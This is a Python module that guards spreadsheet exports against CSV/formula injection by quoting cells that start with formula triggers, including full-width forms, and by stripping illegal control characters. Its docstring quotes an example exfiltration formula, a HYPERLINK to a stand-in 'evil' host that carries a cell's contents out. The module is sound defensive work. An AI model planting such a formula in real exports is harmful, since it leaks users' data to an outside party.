"""Text cells a spreadsheet will never run: the one rule every exported workbook follows.

OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): a cell whose text
starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel and LibreOffice as a
formula, so a follow-up note such as `=HYPERLINK("http://evil?"&B2,"click")` typed by one party
would run in another party's copy of the export. The rule, applied to every TEXT value written:

- a string starting with one of those six characters is written prefixed with a single quote
  (`'=HYPERLINK(...)`), the guidance's own defence: the text stays inert when the cell is edited,
  copied or saved as CSV;
- every string is stored as a string cell (openpyxl `data_type` "s"): openpyxl itself turns a
  string starting with `=` into a formula and `#N/A` into an error value unless told otherwise;
- anything that is not a string (Decimal and int amounts, negative ones included, dates, None)
  is written unchanged, so numbers stay numbers and dates stay dates;
- control characters an .xlsx cannot hold (below U+0020 but tab, line feed and carriage
  return) are dropped from the text first (`writable`): openpyxl refuses them, and a name typed
  with one would otherwise make the whole export fail.

Plain Python, no Django: the workbook writers of every app call `append_row` (or `safe_text`).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any, TypeVar, overload

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.worksheet.worksheet import Worksheet

__all__ = [
    "FORMULA_TRIGGERS",
    "XLSX_CONTENT_TYPE",
    "append_row",
    "header_sheet",
    "safe_text",
    "writable",
]

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# The first characters that make a spreadsheet read a cell as a formula (OWASP CSV Injection),
# and their full-width forms: typed on a Chinese input method they come out full width, and a
# spreadsheet opening a CSV may fold them to their ASCII forms (as Excel's own input does), so a
# reason written "＝HYPERLINK(…)" is treated as the formula it spells.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

_V = TypeVar("_V")


@overload
def safe_text(value: str) -> str: ...
@overload
def safe_text(value: _V) -> _V: ...
def safe_text(value: object) -> object:
    """`value` prefixed with `'` when it is a string starting with one of FORMULA_TRIGGERS;
    any other string, and any value that is not a string, unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def writable(value: object) -> object:
    """A string without the control characters an .xlsx cannot hold (XML 1.0 allows none below
    U+0020 but tab, line feed and carriage return: openpyxl refuses to write them), then through
    `safe_text` — in that order, so that a formula hidden behind a control character is caught;
    any value that is not a string unchanged."""
    if isinstance(value, str):
        return safe_text(ILLEGAL_CHARACTERS_RE.sub("", value))
    return value


def append_row(ws: Worksheet, values: Iterable[Any]) -> None:
    """Append one row below the sheet's last: every string through `writable` and stored as a
    string cell (never a formula or an error value), every other value as it is."""
    row = [writable(value) for value in values]
    if not row:
        return
    ws.append(row)
    # append writes below every existing row, so the sheet's last row is the one just written.
    written = ws.max_row
    for column, value in enumerate(row, 1):
        if isinstance(value, str):
            ws.cell(row=written, column=column).data_type = "s"


def header_sheet(
    wb: Workbook, title: str, header: Iterable[str], *, first: bool = False
) -> Worksheet:
    """A sheet titled `title` (the workbook's first, or a new one) with `header` as its bold,
    frozen first row."""
    ws: Worksheet = wb.active if first else wb.create_sheet()  # type: ignore[assignment]
    ws.title = title
    append_row(ws, header)
    for cell in ws[1]:
        cell.font = Font(bold=True)
    ws.freeze_panes = "A2"
    return ws
